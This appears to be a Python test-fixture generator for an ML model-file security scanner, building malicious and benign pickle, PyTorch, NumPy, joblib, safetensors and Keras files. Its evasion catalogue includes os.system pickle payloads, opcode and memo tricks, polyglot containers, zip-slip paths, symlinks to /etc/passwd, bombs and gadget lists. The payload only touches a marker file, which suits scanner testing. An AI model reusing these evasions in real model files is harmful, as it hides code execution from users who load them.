# SPDX-License-Identifier: Apache-2.0
"""Files of models, harmful and harmless, made on the spot: one for each way past a scanner that was published or that we thought of. The payload of
each only touches a file. `harmful(folder)` and `harmless(folder)` answer {name: path}."""
import base64
import bz2
import gzip
import io
import json
import lzma
import marshal
import os
import pickle
import struct
import tarfile
import warnings
import zipfile
import zlib

MARK = "/tmp/model-scan-payload-ran"
COMMAND = f"touch {MARK}"


class Runs:
    """os.system by REDUCE."""

    def __init__(self, command=COMMAND):
        self.command = command

    def __reduce__(self):
        return os.system, (self.command,)


def text(value):
    return b"X" + struct.pack("<I", len(value)) + value.encode()


def short(value):
    return b"\x8c" + bytes([len(value)]) + value.encode()


def call(module, name, *arguments, protocol=4):
    """A pickle that calls module.name with texts."""
    return (b"\x80" + bytes([protocol]) + short(module) + short(name) + b"\x93(" + b"".join(text(argument) for argument in arguments) + b"tR.")


def call_global(module, name, *arguments):
    return f"c{module}\n{name}\n(".encode() + b"".join(b"V" + argument.encode() + b"\n" for argument in arguments) + b"tR."


PAYLOAD = call("os", "system", COMMAND)


def zip_of(members, **options):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", options.get("compression", zipfile.ZIP_STORED)) as archive:
        for name, data in members:
            with warnings.catch_warnings():
                warnings.simplefilter("ignore")
                archive.writestr(name, data)
    return out.getvalue()


def torch_zip(data, extra=()):
    return zip_of([("archive/data.pkl", data), ("archive/version", b"3\n"), ("archive/data/0", bytes(16)), *extra])


def tar_of(members, format=tarfile.USTAR_FORMAT):
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w", format=format) as archive:
        for name, data in members:
            info = tarfile.TarInfo(name)
            info.size = len(data)
            archive.addfile(info, io.BytesIO(data))
    return out.getvalue()


# Names that run code or reach files, each through a door that deny-lists have been missing.
GADGETS = {
    "os_system": call("os", "system", COMMAND), "posix_system": call("posix", "system", COMMAND), "nt_system": call("nt", "system", COMMAND),
    "builtins_eval": call("builtins", "eval", f"__import__('os').system('{COMMAND}')"), "builtins_exec": call("builtins", "exec", "import os"),
    "dunder_builtin_eval": call_global("__builtin__", "eval", "1"), "subprocess_popen": call("subprocess", "Popen", "true"),
    "runpy": call("runpy", "_run_code", "x"), "importlib": call("importlib", "import_module", "antigravity"), "pty_spawn": call("pty", "spawn", "true"),
    "timeit": call("timeit", "timeit", "1"), "cprofile": call("cProfile", "run", "1"), "pdb": call("pdb", "run", "1"), "bdb": call("bdb", "Bdb"), "trace": call("trace", "Trace"),
    "code_interact": call("code", "InteractiveInterpreter"), "doctest": call("doctest", "debug_script", "1"), "idlelib": call("idlelib.pyshell", "ModifiedInterpreter"),
    "lib2to3": call("lib2to3.pgen2.grammar", "Grammar"), "pydoc_pipe": call("pydoc", "pipepager", "x", "true"), "asyncio_subprocess": call("asyncio.unix_events", "_UnixSubprocessTransport._start"),
    "functools_partial": call("functools", "partial", "x"), "operator_attrgetter": call("operator", "attrgetter", "system"), "operator_methodcaller": call("operator", "methodcaller", "system", "x"),
    "getattr": call("builtins", "getattr", "x"), "map": call("builtins", "map", "x"), "apply": call_global("__builtin__", "apply", "x"), "open": call("builtins", "open", MARK, "w"),
    "io_open": call("io", "open", MARK, "w"), "io_fileio": call("_io", "FileIO", MARK, "w"), "pathlib_write": call("pathlib", "Path.write_text", MARK), "shutil": call("shutil", "copyfile", "a", "b"),
    "logging_file": call("logging", "FileHandler", MARK), "tempfile": call("tempfile", "mkstemp"), "zipimport": call("zipimport", "zipimporter", "x"), "ctypes": call("ctypes", "CDLL", "x.so"),
    "webbrowser": call("webbrowser", "open", "file:///"), "urllib": call("urllib.request", "urlopen", "file:///etc/passwd"), "socket": call("socket", "create_connection", "x"),
    "requests": call("requests.api", "get", "http://127.0.0.1"), "smtplib": call("smtplib", "SMTP", "127.0.0.1"), "pip_main": call("pip._internal.cli.main", "main", "x"), "pip_alias": call("pip", "main", "x"),
    "numpy_load": call("numpy", "load", "x"), "numpy_runstring": call("numpy.testing._private.utils", "runstring", "1"), "numpy_f2py": call("numpy.f2py.crackfortran", "myeval", "1"),
    "numpy_fromfile": call("numpy", "fromfile", "x"), "numpy_memmap": call("numpy", "memmap", "x"), "torch_load": call("torch", "load", "x"), "torch_hub": call("torch.hub", "load", "x", "y"),
    "torch_jit": call("torch.jit", "load", "x"), "torch_dynamo": call("torch._dynamo.guards", "GuardBuilder.get", "x"), "torch_inductor": call("torch._inductor.codecache", "compile_file", "x"),
    "torch_utils_bottleneck": call("torch.utils.bottleneck.__main__", "run_prof", "x"), "torch_cpp": call("torch.utils.cpp_extension", "load_inline", "x"), "joblib_load": call("joblib", "load", "x"),
    "joblib_eval": call("joblib.memory", "eval", "x"), "sklearn_load": call("sklearn.datasets", "load_files", "x"), "sklearn_openml": call("sklearn.datasets._openml", "fetch_openml", "x"),
    "pandas_read_pickle": call("pandas", "read_pickle", "x"), "pandas_eval": call("pandas.core.computation.eval", "eval", "1"), "cloudpickle": call("cloudpickle.cloudpickle", "_fill_function", "x"),
    "dill": call("dill._dill", "_create_code", "x"), "types_code": call("types", "CodeType"), "types_function": call("types", "FunctionType"), "marshal": call("marshal", "loads", "x"), "pickle_loads": call("pickle", "loads", "x"),
    "nested_c_pickle": call("_pickle", "loads", "x"), "yaml": call("yaml", "unsafe_load", "x"), "sys_modules": call("sys", "exit"), "setattr": call("builtins", "setattr", "x"), "ssl": call("ssl", "get_server_certificate", "x"),
    "multiprocessing": call("multiprocessing.util", "spawnv_passfds", "x"), "unittest_mock": call("unittest.mock", "_importer", "os"), "django": call("django.utils.module_loading", "import_string", "os.system"),
    "transformers": call("transformers.dynamic_module_utils", "get_class_from_dynamic_module", "x"), "keras_lambda": call("keras.layers", "Lambda", "x"), "unknown_package": call("a_package_nobody_knows", "f"),
}


# torch's call for a tensor of so many elements, in a storage of so many, whose bytes lie beside the pickle.
TENSOR = (b"\x80\x02ctorch._utils\n_rebuild_tensor_v2\n((X\x07\x00\x00\x00storagectorch\nFloatStorage\nX\x01\x00\x00\x000X\x03\x00\x00\x00cpu%stQK\x00%s\x85K\x01\x85\x89ccollections\n"
          b"OrderedDict\n)RtR")


def memo_counted_twice():
    """One place of the memo, far out, is filled twice; whoever counts it twice takes the next texts for others."""
    far = b"r" + struct.pack("<I", (8 << 20) + 5)
    texts = b"".join(short(name) + b"\x940" for name in ("collections", "posix", "OrderedDict", "system"))
    return b"\x80\x04" + b"N0" * 3_700_000 + short("x") + far * 2 + b"0" + texts + b"h\x02h\x04\x93" + text(COMMAND) + b"\x85R."


def opcode_tricks():
    """Programs of the pickle machine that simple readers lose sight of."""
    deep = b"".join(short("x") + b"0" for _ in range(300))
    return {
        "protocol0": pickle.dumps(Runs(), 0), "protocol1": pickle.dumps(Runs(), 1), "protocol2": pickle.dumps(Runs(), 2), "protocol3": pickle.dumps(Runs(), 3),
        "protocol4": pickle.dumps(Runs(), 4), "protocol5": pickle.dumps(Runs(), 5),
        "inst": b"(S'" + COMMAND.encode() + b"'\nios\nsystem\n.", "obj": b"(cos\nsystem\nS'" + COMMAND.encode() + b"'\no.",
        "newobj": b"\x80\x02csubprocess\nPopen\n" + text("true") + b"\x85\x81.", "newobj_ex": b"\x80\x04\x8c\x0asubprocess\x8c\x05Popen\x93" + short("true") + b"\x85}\x92.",
        "ext1": b"\x80\x02\x82\x01)R.", "ext2": b"\x80\x02\x83\x01\x01)R.", "ext4": b"\x80\x02\x84\x01\x00\x00\x00)R.",
        "memo_names": b"\x80\x04" + short("os") + b"\x94" + short("system") + b"\x9400h\x00h\x01\x93" + text(COMMAND) + b"\x85R.",
        "memo_far": b"\x80\x04" + short("system") + b"r\xff\xff\x00\x000" + short("os") + b"j\xff\xff\x00\x00\x93" + text(COMMAND) + b"\x85R.",
        "memo_overwritten": b"\x80\x04" + short("collections") + b"q\x000" + short("os") + b"q\x000" + short("OrderedDict") + b"q\x010" + short("system") + b"q\x010h\x00h\x01\x93" + text(COMMAND) + b"\x85R.",
        "memo_mixed_numbers": b"\x80\x04" + short("OrderedDict") + b"p10\n0" + short("system") + b"p1_0\n0" + short("os") + b"g10\n\x93" + text(COMMAND) + b"\x85R.",
        "dup_pop": b"\x80\x04" + short("os") + short("system") + b"20\x93" + text(COMMAND) + b"\x85R.",
        "pop_mark": b"\x80\x04(" + short("collections") + b"1" + short("os") + short("system") + b"\x93" + text(COMMAND) + b"\x85R.",
        "far_apart": b"\x80\x04" + short("os") + deep + short("system") + deep + b"\x93" + text(COMMAND) + b"\x85R.",
        "old_texts": b"\x80\x04U\x02osT\x06\x00\x00\x00system\x93" + text(COMMAND) + b"\x85R.", "escaped_text": b"V\\u006fs\nVsystem\n\x93" + text(COMMAND) + b"\x85R.",
        "quoted_escape": b"S'\\x6fs'\nS'system'\n\x93" + text(COMMAND) + b"\x85R.",
        "dotted_name": call("collections", "abc.sys.modules"), "dotted_through_innocent": call("torch._utils", "_rebuild_tensor_v2.__globals__"), "dotted_class": call("collections", "OrderedDict.__init__"),
        "reexport": call("torch.serialization", "os.system", COMMAND), "reexport_numpy": call("numpy.core.multiarray", "os"), "module_of_package": call("sklearn.utils._testing", "os"),
        "unicode_name": call("о" + "s", "system", COMMAND), "unicode_full_width": call("ｏs", "system", COMMAND), "space_in_name": call("os ", "system", COMMAND), "newline_in_name": call("os\n", "system", COMMAND),
        "build_setstate": b"ccollections\nOrderedDict\n)R(V__setstate__\ncos\nsystem\ndbV" + COMMAND.encode() + b"\nb.",
        "build_class": b"\x80\x02ccollections\nOrderedDict\n)RN}" + text("__class__") + b"ccollections\nCounter\ns\x86b.",
        "build_escaped": b"\x80\x02ccollections\nOrderedDict\n)R}V\\u005f_setstate__\ncbuiltins\nbytearray\nsbJ\xff\xff\xff\x7fb.", "build_escaped_string": b"ccollections\nOrderedDict\n)R(S'\\137\\x5fsetstate__'\ncbuiltins\nbytearray\ndbI5\nb.",
        "build_made_text": b"\x80\x02ccollections\nOrderedDict\n)R}cbuiltins\nstr\n" + text("__setstate__") + b"\x85Rcbuiltins\nbytearray\nsbK\x05b.", "build_lost_state": b"\x80\x02N}" + text("__class__") + b"ccollections\nCounter\ns\x86q\x000" + b"K\x01\x850" * 140_000 + b"ccollections\nOrderedDict\n)Rh\x00b.",
        "build_on_class": b"\x80\x02ccollections\nOrderedDict\n}" + text("update") + b"ccollections\nCounter\nsb.",
        "call_of_a_result": b"\x80\x02ccollections\nOrderedDict\n)R)R.", "computed_name": b"\x80\x04ccollections\nOrderedDict\n)R" + short("system") + b"\x93)R.",
        "persistent_line": b"Pos.system\n.", "persistent_id": b"Vos.system\nQ.",
        "before_break": PAYLOAD[:-1] + b"\xff\xff\xff", "before_end": PAYLOAD[:-1], "before_bad_frame": PAYLOAD[:-1] + b"\x95\xff\xff\xff\xff\xff\xff\xff\x7f.",
        "second_pickle": pickle.dumps({"a": 1}) + PAYLOAD, "second_after_junk": pickle.dumps({"a": 1}) + b"\x00junk\xff" + PAYLOAD, "trailing_junk": pickle.dumps({"a": 1}) + b"\xffjunk",
        "many_pickles": pickle.dumps(1) * 50 + PAYLOAD, "no_protocol": PAYLOAD[2:], "protocol_twice": b"\x80\x04\x80\x05" + PAYLOAD[2:], "future_protocol": b"\x80\x09" + PAYLOAD[2:],
        "frame_bomb": b"\x80\x04\x95\xff\xff\xff\xff\xff\xff\xff\x00N.", "length_bomb": b"\x80\x04\x8e\xff\xff\xff\xff\xff\xff\xff\x7f.", "memo_bomb": b"\x80\x02Nr\xff\xff\xff\xff.",
        "laughs": b"]" + b"".join(b"p%d\n0](" % i + b"g%d\n" % i * 10 + b"e" for i in range(40)) + b".",
        "encode_codec": call("_codecs", "encode", "x", "rot13"), "encode_stored": b"ccollections\ndefaultdict\n(c_codecs\nencode\ntR.",
        "nested_torch": b"\x80\x04\x8c\x0dtorch.storage\x8c\x10_load_from_bytes\x93C" + bytes([len(PAYLOAD)]) + PAYLOAD + b"\x85R.",
        "stored_loader": b"ccollections\ndefaultdict\n(ctorch.storage\n_load_from_bytes\ntR.",
        "hidden_base64": pickle.dumps({"w": base64.b64encode(PAYLOAD).decode()}, 4), "hidden_hex": pickle.dumps({"w": PAYLOAD.hex()}, 4), "hidden_raw": pickle.dumps({"w": PAYLOAD}, 4), "hidden_twice": pickle.dumps({"w": pickle.dumps({"x": base64.b64encode(PAYLOAD).decode()}, 4)}, 5),
        "array_of_a_buffer": b"cnumpy\nndarray\n((I1\ntcnumpy\ndtype\n(VO8\ntRVx\ntR.", "array_called_by_torch": b"ctorch._tensor\n_rebuild_from_type_v2\n(cnumpy\nndarray\nctorch\nTensor\n((I1\ntt}tR.", "room_bomb": call_global("builtins", "bytearray")[:-3] + b"I99999999999\ntR.",
        "dtype_hides_objects": b"cnumpy\ndtype\n(VO8\nI00\nI01\ntR(I3\nV|\nNNNI-1\nI-1\nI0\ntb.",
        "in_a_tuple_in_a_list": pickle.dumps({"layers": [(1, {"w": [Runs()]})]}, 4), "deep": b"(" * 200 + PAYLOAD[2:-1] + b"t" * 200 + b".",
        "memo_counted_twice": memo_counted_twice(), "range_bomb": call_global("builtins", "range")[:-3] + b"I99999999999\ntR.", "range_stored": b"ccollections\ndefaultdict\n(cbuiltins\nrange\ntR.", "filled_tensor": TENSOR % (b"K\x04", b"K\x04") + b"(K\x00K\x01u.",
        "late": pickle.dumps({f"w{i}": float(i) for i in range(20000)}, 4)[:-1] + PAYLOAD[2:-1] + b"0.", "reduce_ex_getattr": b"cbuiltins\ngetattr\n(cbuiltins\n__import__\nVx\ntR.",
    }


def described_type(kind, order, flags, fields=b"NN", size=-1):
    """numpy.dtype with its state: what stands for its fields are their names and the dict."""
    return b"cnumpy\ndtype\n" + text(kind) + b"\x89\x88\x87R" + type_state(order, flags, fields, size)


def type_state(order, flags, fields=b"NN", size=-1):
    return b"(K\x03" + text(order) + b"N" + fields + struct.pack("<cici", b"J", size, b"J", 1 if size > 0 else -1) + b"K" + bytes([flags]) + b"tb"


def types_that_lie():
    """Descriptions of arrays that are not what they seem when they are read."""
    number, thing = described_type("f8", "<", 0), described_type("O8", "|", 0x3F)
    array = b"0cnumpy.core.multiarray\n_reconstruct\ncnumpy\nndarray\nK\x00\x85C\x01b\x87R(K\x01K\x01\x85h\x02\x89C\x08AAAAAAAAtb."
    def structure(offset, size):
        return b"\x80\x03cnumpy\ndtype\n" + text("V8") + b"\x89\x88\x87Rq\x02" + type_state("|", 0x10, text("f") + b"\x85}q\x01" + text("f") + number + offset + b"\x86s", size)
    wrapper = (b"\x80\x02cjoblib.numpy_pickle\nNumpyArrayWrapper\n)\x81}(" + text("subclass") + b"cnumpy\nndarray\n" + text("shape") + b"K" + bytes([len(PAYLOAD)]) + b"\x85" + text("order") + text("C") + text("dtype")
               + described_type("u1", "|", 0) + b"V\\u0064type\n" + thing + text("allow_mmap") + b"\x89" + text("numpy_array_alignment_bytes") + b"Nub")
    many = b"}" + b"0}" * ((8 << 20) + 1)
    made = b"cbuiltins\ntuple\n](" + number + b"M\xe8\x03\x85e\x85R"
    part = b"\x80\x03cnumpy\ndtype\n" + text("V8") + b"\x89\x88\x87Rq\x02(K\x03" + text("|") + number + b"M\xe8\x03\x85\x86NNJ\x08\0\0\0J\x01\0\0\0K\0tb"
    return {"type_in_escapes.joblib": wrapper + PAYLOAD + b".", "large_part.pkl": part + array, "large_part_by_call.pkl": part.replace(number + b"M\xe8\x03\x85\x86", made) + array, "fields_changed.pkl": structure(b"K\x00", 8) + b"0h\x01" + text("f") + thing + b"K\x00\x86s" + array, "second_state.pkl": structure(b"M\x00\x10", 4112) + type_state("|", 0x10, size=8) + array,
            "fields_lost.pkl": b"\x80\x03" + many + b"0cnumpy\ndtype\n" + text("V8") + b"\x89\x88\x87Rq\x02" + type_state("|", 0x10, text("f") + b"\x85}" + text("f") + thing + b"K\x00\x86s", 8) + array}


def array_tricks():
    """NumPy's and joblib's forms."""
    import numpy

    out = io.BytesIO()
    numpy.save(out, numpy.array([Runs()], dtype=object), allow_pickle=True)
    npy = out.getvalue()
    out = io.BytesIO()
    numpy.savez(out, a=numpy.arange(3), b=numpy.array([{"x": Runs()}], dtype=object))
    npz = out.getvalue()
    header = b"\x93NUMPY\x01\x00" + struct.pack("<H", 0x46)
    liar = header + b"{'descr': '<f8', 'fortran_order': False, 'shape': (1,), }".ljust(0x45) + b"\n" + PAYLOAD
    def described(kind):
        return header + f"{{'descr': {kind}, 'fortran_order': False, 'shape': (1,), }}".encode().ljust(0x45) + b"\n" + PAYLOAD
    hidden = {f"hidden_object_{i}.npy": described(kind) for i, kind in enumerate(("'i4, O'", "'i4,|O'", "'i4,2O'", "'i4,(2,)O'", "' O'", "'object_'", "[('a', 'i4, O')]", "[('a', [('b', 'i4,O')])]"))}
    code = header + b"{'descr': eval('1'), 'fortran_order': False, 'shape': (1,), }".ljust(0x45) + b"\n" + bytes(8)
    state = pickle.dumps(numpy.array([Runs(), 1], dtype=object), 4)
    unnamed = zip_of([("a/data.pkl", pickle.dumps({}, 2)), ("a/data/0", npy)]), zip_of([("a/data.pkl", pickle.dumps({}, 2)), ("a/version", npy)])
    return hidden | types_that_lie() | {"array_as_storage.npz": unnamed[0], "array_as_version.npz": unnamed[1], "object.npy": npy, "object.npz": npz, "numpy_build.pkl": state, "liar.npy": liar, "code_in_header.npy": code, "npy_as.pkl": npy, "cut.npy": npy[:-5], "short.npy": npy[:9]}


def joblib_tricks(folder):
    import joblib
    import numpy

    files = {}
    for name, value, compress in (("plain", {"a": numpy.arange(1000.0), "x": Runs()}, 0), ("zlib", {"a": numpy.arange(1000.0), "x": Runs()}, ("zlib", 3)), ("gzip", [Runs()], ("gzip", 3)), ("bz2", [Runs()], ("bz2", 3)),
                                  ("xz", [Runs()], ("xz", 3)), ("lzma", [Runs()], ("lzma", 3)), ("lz4", [numpy.zeros(100), Runs()], ("lz4", 3)), ("objects", numpy.array([Runs(), 1], dtype=object), 0)):
        path = folder / f"joblib_{name}.joblib"
        joblib.dump(value, path, compress=compress)
        files[path.name] = path.read_bytes()
    return files


def patched(data, old, new, count=1):
    assert old in data
    return data.replace(old, new, count)


def tar_header(name, size, kind=b"0", prefix=b"", magic=b"ustar\x0000"):
    header = bytearray(512)
    for at, field in ((0, name), (100, b"0000644\0"), (108, b"0000000\0"), (116, b"0000000\0"), (124, b"%011o\0" % size), (136, b"00000000000\0"), (148, b" " * 8), (156, kind), (257, magic), (345, prefix)):
        header[at:at + len(field)] = field
    header[148:156] = b"%06o\0 " % sum(header)
    return bytes(header)


def tar_member(name, data, **options):
    return tar_header(name, len(data), **options) + data + bytes(-len(data) % 512)


def pax_header(key, value, kind=b"x"):
    line = b" " + key + b"=" + value + b"\n"
    length = len(line)
    while len(b"%d" % length) + len(line) != length:
        length = len(b"%d" % length) + len(line)
    return tar_member(b"pax", b"%d" % length + line, kind=kind)


def tar_readers_differ():
    """Archives of which readers make different files."""
    inner, end, text_file = tar_member(b"model.pkl", PAYLOAD), bytes(1024), tar_member(b"a.txt", b"text")
    notes = b"# some notes\n"
    late = call_global("os", "system", COMMAND)
    return {"tar_folder_with_contents.tar": text_file + tar_header(b"d/", len(inner), b"5") + inner + end,
            "tar_sparse.tar": pax_header(b"GNU.sparse.map", b"1000,%d,0,%d" % (len(notes), len(late))) + tar_member(b"a.txt", notes + late) + end,
            "tar_one_name_for_all.tar": pax_header(b"path", b"../../x.txt", b"g") + text_file + end, "tar_one_size_for_all.tar": pax_header(b"size", b"1024", b"g") + text_file + inner + end,
            "tar_old_prefix.tar": tar_member(b"a.txt", b"text", prefix=b"../../x", magic=bytes(8)) + end, "tar_gnu_prefix.tar": tar_member(b"a.txt", b"text", prefix=b"../../x", magic=b"ustar  \0") + end}


def tar_and_pickle(sum_of):
    """A tar archive for torch.load and tarfile, by its checksums in a form that tar does not write; for pickle a string of bytes."""
    def member(name, data):
        header = bytearray(tar_member(name, data)[:512])
        header[148:156] = sum_of(header)
        return bytes(header) + data + bytes(-len(data) % 512)
    rest = member(b"storages", pickle.dumps(0, 2) + pickle.dumps([], 2)) + member(b"tensors", pickle.dumps(0, 2)) + member(b"pickle", PAYLOAD) + bytes(1024)
    return member(b"B" + struct.pack("<I", 1024 + len(rest) - 5) + b"\x81", bytes(512)) + rest + b"."


def tars_by_odd_sums():
    def total(header, byte="B"):
        return 256 + sum(struct.unpack(f"148{byte}8x356{byte}", bytes(header)))
    return {"tar_signed_sum.pt": tar_and_pickle(lambda header: b"%06o\0 " % total(header, "b")), "tar_binary_sum.pt": tar_and_pickle(lambda header: b"\x80" + total(header).to_bytes(7, "big")),
            "tar_plus_sum.pt": tar_and_pickle(lambda header: b"+%06o\0" % total(header)), "tar_underscore_sum.pt": tar_and_pickle(lambda header: b"0_%05o\0" % total(header))}


def zip_behind_hdf5(folder):
    """Keras takes a file for an archive when Python does, whatever it begins with, and Python does not read how many entries there are."""
    import h5py

    with h5py.File(folder / "begin.h5", "w") as file:
        file.create_dataset("a", data=[1.0])
    layer = {"class_name": "Lambda", "module": "keras.layers", "config": {}}
    archive = bytearray(zip_of([("metadata.json", "{}"), ("config.json", json.dumps({"class_name": "Sequential", "module": "keras", "config": {"layers": [layer]}})), ("model.weights.h5", b"")], compression=zipfile.ZIP_DEFLATED))
    end = archive.rindex(b"PK\x05\x06")
    archive[end + 8:end + 12] = bytes(4)
    return {"zip_without_count.keras": (folder / "begin.h5").read_bytes() + bytes(archive)}


def pickle_in_safetensors():
    """A sound safetensors file whose header's length begins a string for pickle; further strings lead through the header to the tensor, which is a program."""
    code = PAYLOAD[2:]
    tail = f'"}},"w":{{"dtype":"U8","shape":[{len(code)}],"data_offsets":[0,{len(code)}]}}}}'
    length = ord("X") + (5000 << 8)
    header = '{"__metadata__":{"a":"'.ljust(5 + (length >> 8) - 8, "x")
    while length - len(header) > 256:
        header += "U~" + "x" * 126
    last = (length - len(header) - 4) // 2
    rest = length - len(header) - 4 - last
    header += f"U{chr(last)}{'x' * last}U{chr(rest)}"
    return struct.pack("<Q", length) + (header + "x" * (rest - len(tail)) + tail).encode() + code


def tar_in_safetensors():
    """A sound safetensors file whose header is that of a tar archive, and whose tensor holds the archive's members."""
    members = b"".join(tar_member(name, data) for name, data in ((b"storages", pickle.dumps(0, 2) + pickle.dumps([], 2)), (b"tensors", pickle.dumps(0, 2)), (b"pickle", PAYLOAD))) + bytes(1024)
    block = struct.pack("<Q", 1016) + b'{"__metadata__":{"a":"'.ljust(92, b"x") + b"0000644 0000000 0000000 00000001000 00000000000 " + b" " * 8 + b"0" + b"x" * 172 + b"0000000 0000000 " + b"x" * 167
    block = block[:148] + b"%07o " % sum(block) + block[156:]
    return block + f'"}},"w":{{"dtype":"U8","shape":[{len(members)}],"data_offsets":[0,{len(members)}]}}}}'.encode().ljust(512) + members


def two_in_one(folder):
    """Containers that are programs for pickle too, and a string for pickle that is an HDF5 file far behind its start."""
    import h5py

    with h5py.File(folder / "block.h5", "w", userblock_size=512) as file:
        file["a"] = [1.0]
    block = PAYLOAD + (folder / "block.h5").read_bytes()[len(PAYLOAD):]
    name = call_global("posix", "system", COMMAND) + b".txt"
    frame = b"a" * (0x184D2A - 3) + PAYLOAD[2:]
    frame += b"a" * (-len(frame) % 256)
    zstandard = b"T*M\x18" + struct.pack("<I", len(frame)) + frame + b"\x28\xb5\x2f\xfd\x20\x02\x11\0\0" + b"N."
    with h5py.File(folder / "far.h5", "w", userblock_size=1 << 17) as file:
        file.attrs["model_config"] = json.dumps({"class_name": "Sequential", "config": {"layers": [{"class_name": "Lambda", "config": {}}]}})
    far = bytearray((folder / "far.h5").read_bytes())
    far[:5] = b"B" + struct.pack("<I", len(far) - 5)
    return {"pickle_in_user_block.pkl": block, "pickle_in_user_block.h5": block, "pickle_in_tar_name.pkl": tar_member(name, b"text") + bytes(1024), "pickle_in_zstd.pkl": zstandard, "late_by_underscores.txt": b"Vx\np1_0\n0" * 150000 + call_global("os", "system", COMMAND),
            "far_user_block.h5": bytes(far) + b".", "tar_in.safetensors": tar_in_safetensors()}


def zip_with_two_names(name):
    """Python takes a member's name from an extra field, where there is one."""
    info = zipfile.ZipInfo("a.txt")
    second = struct.pack("<BI", 1, zlib.crc32(b"a.txt")) + name
    info.extra = struct.pack("<HH", 0x7075, len(second)) + second
    return zip_of([(info, "text")])


def container_tricks():
    model = torch_zip(PAYLOAD)
    clean = torch_zip(pickle.dumps({"a": 1}, 2))
    wrong_checksum = bytearray(clean)
    at = clean.index(pickle.dumps({"a": 1}, 2))
    wrong_checksum[at + 3] ^= 1
    deflated = zip_of([("archive/data.pkl", PAYLOAD)], compression=zipfile.ZIP_DEFLATED)
    local_name = bytearray(clean)
    local_name[30:46] = b"archive/other.pk"
    encrypted = bytearray(clean)
    encrypted[6] |= 1
    central = clean.index(b"PK\x01\x02")
    encrypted[central + 8] |= 1
    link = io.BytesIO()
    with zipfile.ZipFile(link, "w") as archive:
        info = zipfile.ZipInfo("archive/data/0")
        info.external_attr = 0o120777 << 16
        archive.writestr("archive/data.pkl", pickle.dumps(1, 2))
        archive.writestr(info, "/etc/passwd")
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as archive:
        info = tarfile.TarInfo("pickle")
        info.type, info.linkname = tarfile.SYMTYPE, "/etc/passwd"
        archive.addfile(info)
    old_tar = bytearray(tar_of([("pickle", PAYLOAD)]))
    old_tar[257:265] = bytes(8)
    old_tar[148:156] = b"%06o\0 " % (sum(old_tar[:512]) - sum(old_tar[148:156]) + 8 * 32)
    late = b"Vx\n0" * 300000 + call_global("os", "system", COMMAND)
    magic = pickle.dumps(0x1950A86A20F9469CFC6C, 2) + pickle.dumps(1001, 2) + pickle.dumps({"little_endian": True}, 2)
    return tar_readers_differ() | tars_by_odd_sums() | {
        "zip_second_name.zip": zip_with_two_names(b"model.py"), "zip_second_name_slip.zip": zip_with_two_names(b"../../x.txt"),
        "storage_too_small.pt": torch_zip(TENSOR % (b"M\xff\xff", b"M\xff\xff") + b"."),
        "torch_zip.pt": model, "torch_zip.bin": model, "torch_zip_deflated.pt": deflated, "torch_zip_nested.pt": torch_zip(pickle.dumps(1, 2), [("archive/extra/model.pkl", PAYLOAD)]),
        "zip_in_zip.zip": zip_of([("inner/model.zip", zip_of([("a/model.pt", model)]))]), "zip_in_gzip.pt": gzip.compress(model), "second_data_pkl.pt": torch_zip(pickle.dumps(1, 2), [("other/data.pkl", PAYLOAD)]),
        "other_case.pt": torch_zip(pickle.dumps(1, 2), [("archive/DATA.PKL", PAYLOAD)]),
        "duplicate.pt": torch_zip(pickle.dumps(1, 2), [("archive/data.pkl", PAYLOAD)]), "wrong_checksum.pt": bytes(wrong_checksum), "local_name_differs.pt": bytes(local_name), "encrypted.pt": bytes(encrypted),
        "prepended.pt": b"\x00" * 64 + clean, "prepended_pickle.pt": PAYLOAD + clean, "appended.pt": clean + PAYLOAD, "appended_zeros.pt": clean + bytes(64), "comment.pt": clean[:-2] + b"\x08\x00PK\x05\x06abcd",
        "two_zips.pt": clean + model, "cut.pt": clean[:-30], "no_directory.pt": clean[:clean.index(b"PK\x01\x02")], "slip.zip": zip_of([("../../etc/cron.d/x", b"x")]), "slip_absolute.zip": zip_of([("/etc/x", b"x")]),
        "link.pt": link.getvalue(), "bomb.zip": zip_of([("a.txt", b" " * (300 << 20))], compression=zipfile.ZIP_DEFLATED), "tar.pt": tar_of([("sys_info", pickle.dumps({}, 2)), ("pickle", PAYLOAD), ("tensors", b""), ("storages", b"")]),
        "tar.tar": tar_of([("model.pkl", PAYLOAD)]), "tar_gz.tar.gz": gzip.compress(tar_of([("model.pkl", PAYLOAD)])), "tar_old.pt": bytes(old_tar), "tar_link.tar": out.getvalue(), "tar_slip.tar": tar_of([("../../x.txt", b"x")]),
        "tar_pax.tar": tar_of([("a/" * 80 + "model.pkl", PAYLOAD)], tarfile.PAX_FORMAT), "legacy.pt": magic + PAYLOAD + pickle.dumps([], 2), "legacy_sys_info.pt": magic[:-1] + b"0" + PAYLOAD[2:],
        "legacy_trailing.pt": magic + pickle.dumps({}, 2) + pickle.dumps([], 2) + PAYLOAD, "gzip.pkl.gz": gzip.compress(PAYLOAD), "gzip_as.pkl": gzip.compress(PAYLOAD), "bz2.pkl": bz2.compress(PAYLOAD), "xz.pkl": lzma.compress(PAYLOAD),
        "lzma_alone.pkl": lzma.compress(PAYLOAD, lzma.FORMAT_ALONE), "zlib.pkl": zlib.compress(PAYLOAD), "gzip_twice.pkl": gzip.compress(gzip.compress(PAYLOAD)), "gzip_members.pkl": gzip.compress(pickle.dumps(1)) + gzip.compress(PAYLOAD),
        "gzip_trailing.pkl": gzip.compress(pickle.dumps(1)) + b"junk", "gzip_cut.pkl": gzip.compress(pickle.dumps(list(range(9999))))[:-9], "bomb.pkl.gz": gzip.compress(bytes(300 << 20)),
        "late_as.txt": late, "late_as.png": late, "late_as.onnx_data": late, "pickle_in.safetensors": pickle_in_safetensors(), "pickle_as.txt": PAYLOAD, "pickle_as.json": PAYLOAD, "pickle_as.safetensors": PAYLOAD, "pickle_as.png": PAYLOAD, "pickle_as.gguf": PAYLOAD, "zip_as.safetensors": model, "zip_as.json": model, "text_then_zip.md": b"# A model\n" + model,
        "junk.pkl": b"\x00\x01\x02", "empty.pkl": b"", "torchscript.pt": torch_zip(pickle.dumps(1, 2), [("archive/code/__torch__.py", b"def forward(self): return 1\n"), ("archive/constants.pkl", pickle.dumps((), 2))]),
        "constants.pt": torch_zip(pickle.dumps(1, 2), [("archive/constants.pkl", PAYLOAD)]),
    }


def keras_tricks():
    function = base64.b64encode(marshal.dumps(compile("1", "x", "eval"))).decode()
    def sequential(layer):
        return {"class_name": "Sequential", "config": {"name": "s", "layers": [{"class_name": "InputLayer", "config": {"batch_shape": [None, 1]}}, layer]}}
